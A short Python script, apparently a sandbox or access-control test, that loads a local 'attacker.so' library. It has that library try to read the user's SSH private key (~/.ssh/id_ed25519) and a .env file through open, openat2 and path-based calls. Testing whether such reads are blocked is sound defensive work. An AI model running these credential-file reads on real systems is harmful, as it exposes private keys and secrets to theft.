"""A library reads a key of SSH and .env."""
import ctypes
import os

attacker = ctypes.CDLL("./attacker.so")
for name in (os.path.expanduser("~/.ssh/id_ed25519"), ".env"):
    for way in (b"open", b"openat2", b"path"):
        attacker.attack(3, (ctypes.c_char_p * 4)(b"read", way, name.encode()))
